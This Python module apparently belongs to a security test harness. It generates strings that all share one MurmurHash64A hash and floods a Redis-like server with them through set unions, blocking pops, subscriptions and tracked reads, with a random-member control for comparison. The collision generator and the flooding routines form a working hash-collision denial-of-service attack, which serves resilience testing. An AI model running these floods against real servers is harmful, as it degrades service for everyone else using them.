"""Names that all have one hash: 16 bytes more of each double their number.

The standard library's hash of a string is MurmurHash64A with a fixed seed. It takes eight bytes at a
time, so two blocks of 16 bytes can be made that change its state in the same way, whatever the
state was; every choice of one block or the other at each place gives the same hash.
"""

import os
import random
import struct

from attacks import attack, filled

MULTIPLIER = 0xc6a4a7935bd1e995
MASK = (1 << 64) - 1
INVERSE = pow(MULTIPLIER, -1, 1 << 64)


def mixed(word):
    return word ^ word >> 47


def forward(word):
    return mixed(word * MULTIPLIER & MASK) * MULTIPLIER & MASK


def backward(word):
    return mixed(word * INVERSE & MASK) * INVERSE & MASK


def twin_blocks(rng):
    """Flipping the top bit of what two words become leaves the state as it was after both."""
    words = rng.getrandbits(64), rng.getrandbits(64)
    twins = [backward(forward(word) ^ 1 << 63) for word in words]
    return struct.pack("<QQ", *words), struct.pack("<QQ", *twins)


def colliding(bits):
    rng = random.Random(7)
    names = [b""]
    for _ in range(bits):
        one, other = twin_blocks(rng)
        names = [name + block for name in names for block in (one, other)]
    return names


def names_of(arena):
    return colliding(arena.size(11, 15))


def union(arena, members):
    arena.start()
    client = arena.connect()
    for requests in filled(len(members), 4096, lambda begin, end: [
            ("SADD", "a", *members[begin:end])]):
        client.pipeline(requests)
    client.call("SADD", "b", "x")
    with arena.bystander():
        client.call("SUNIONSTORE", "d", "b", "a")


@attack
def flood_union(arena):
    """Set algebra of members with one hash."""
    union(arena, names_of(arena))


@attack
def flood_union_control(arena):
    """The same with random members, to compare with."""
    union(arena, [os.urandom(16 * arena.size(11, 15)) for _ in names_of(arena)])


@attack
def flood_blpop(arena):
    """Waiting for keys with one hash; so many that comparing each with each would be seen."""
    arena.start()
    client = arena.connect()
    names = colliding(arena.size(15, 16))
    with arena.bystander():
        client.request("BLPOP", *names, 0)
        arena.settle()


@attack
def flood_subscribe(arena):
    """Channels with one hash."""
    arena.start()
    client = arena.connect()
    with arena.bystander():
        client.request("SUBSCRIBE", *names_of(arena))
        arena.settle()


@attack
def flood_tracking(arena):
    """Reading keys with one hash, with client-side caching on."""
    arena.start()
    client = arena.connect()
    client.call("CLIENT", "TRACKING", "ON", "REDIRECT", arena.connect().call("CLIENT", "ID"))
    with arena.bystander():
        client.request("MGET", *names_of(arena))
        arena.settle()
